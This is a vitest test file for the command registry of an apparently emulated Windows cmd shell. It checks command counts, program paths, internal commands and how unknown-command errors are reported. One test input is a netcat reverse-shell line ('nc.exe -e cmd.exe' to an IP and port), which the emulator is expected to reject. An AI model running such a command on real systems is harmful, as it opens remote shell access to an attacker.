import { describe, expect, it } from 'vitest';
import { WindowsTestSession } from '../testing.js';
import { CMD_COMMANDS, INTERNAL_COMMANDS } from './index.js';

describe('cmd command registry', () => {
  it('lists at least 35 programs and internal commands, each name once', () => {
    const names = CMD_COMMANDS.flatMap((c) => [c.name, ...(c.aliases ?? [])]);
    expect(CMD_COMMANDS.length).toBeGreaterThanOrEqual(35);
    expect(new Set(names).size).toBe(names.length);
  });

  it('gives every program a file on the drive where it says it lives', () => {
    const { session } = new WindowsTestSession();
    const missing = CMD_COMMANDS.filter(
      (c) => c.path !== undefined && session.drive.stat(c.path as string)?.type !== 'file',
    );
    expect(missing.map((c) => c.path)).toEqual([]);
  });

  it('treats the commands without a program file as cmd internals', () => {
    expect([...INTERNAL_COMMANDS]).toEqual(
      expect.arrayContaining(['cd', 'dir', 'echo', 'set', 'type', 'md', 'rd', 'del', 'copy']),
    );
    expect(INTERNAL_COMMANDS.has('whoami')).toBe(false);
  });

  it.each(['whoami', 'WHOAMI.EXE', 'C:\\Windows\\System32\\whoami.exe', 'c:\\windows\\system32\\WhoAmI'])(
    'runs %s as whoami',
    async (name) => {
      const t = new WindowsTestSession();
      expect((await t.exec(name)).stdout).toBe('srv-files-01\\administrator\r\n');
    },
  );

  it.each(['uname -a', 'ls', 'nc.exe -e cmd.exe 10.0.0.1 4444', 'C:\\nope\\whoami.exe'])(
    'does not know %s',
    async (line) => {
      const t = new WindowsTestSession();
      const r = await t.exec(line);
      expect(r.stderr).toMatch(
        /^'.+' is not recognized as an internal or external command,\r\noperable program or batch file\.\r\n$/,
      );
      expect(r.status).toBe(9009);
    },
  );
});
